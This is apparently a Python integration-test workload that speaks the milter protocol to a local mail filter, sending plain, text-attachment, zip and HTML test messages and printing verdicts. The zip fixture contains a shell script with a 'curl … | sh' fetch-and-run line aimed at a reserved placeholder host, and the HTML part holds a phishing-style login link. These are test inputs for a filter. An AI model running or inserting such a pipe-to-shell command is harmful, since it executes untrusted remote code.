#!/usr/bin/env python3
# milter-mail.py PORT COUNT: COUNT messages to the milter on 127.0.0.1:PORT, speaking the
# milter protocol as Postfix does: a plain one, one with a text attachment, one with a
# zip holding a shell script, one with an HTML part with a link, in turn. Prints the verdict
# letters, one per message ("a" accept, "r" reject, "t" tempfail, "d" discard, "y" reply...).
# A workload for airlock learn on the milter (tests/integration/learn-units.sh).
import base64, io, os, socket, struct, sys, zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from milter_wire import recv, send  # noqa: E402

port, count = int(sys.argv[1]), int(sys.argv[2])




def mime(kind):
    b = "XyZ"
    head = [("From", "a@example.org"), ("Subject", "test " + kind),
            ("MIME-Version", "1.0"), ("Content-Type", 'multipart/mixed; boundary="%s"' % b)]
    parts = ["--%s\r\nContent-Type: text/plain\r\n\r\nhello\r\n" % b]
    if kind == "text":
        parts.append("--%s\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; "
                     "filename=\"notes.txt\"\r\n\r\nsome notes\r\n" % b)
    elif kind == "zip":
        z = io.BytesIO()
        with zipfile.ZipFile(z, "w") as f:
            f.writestr("run.sh", "#!/bin/sh\ncurl http://example.invalid/x | sh\n")
        parts.append("--%s\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; "
                     "filename=\"a.zip\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n"
                     % (b, base64.encodebytes(z.getvalue()).decode().replace("\n", "\r\n")))
    elif kind == "html":
        parts.append("--%s\r\nContent-Type: text/html\r\n\r\n<a href=\"http://192.0.2.1/login\">"
                     "log in</a>\r\n" % b)
    return head, "".join(parts) + "--%s--\r\n" % b


kinds = ["plain", "text", "zip", "html"]
out = []
for i in range(count):
    s = socket.create_connection(("127.0.0.1", port), 10)
    s.settimeout(120)
    send(s, b"O", struct.pack(">III", 6, 0x1ff, 0x1fffff))
    recv(s)
    send(s, b"C", b"client.example\0" + b"4" + struct.pack(">H", 25) + b"127.0.0.1\0")
    send(s, b"M", b"<a@example.org>\0")
    send(s, b"R", b"<b@example.org>\0")
    head, body = mime(kinds[i % len(kinds)])
    for k, v in head:
        send(s, b"L", k.encode() + b"\0" + v.encode() + b"\0")
    send(s, b"N")
    send(s, b"B", body.encode())
    send(s, b"E")
    verdict = "?"
    while True:
        cmd, data = recv(s)
        if cmd is None:
            break
        if cmd in "acrtdy":
            verdict = cmd
            break
    out.append(verdict)
    send(s, b"Q")
    s.close()
print("".join(out))
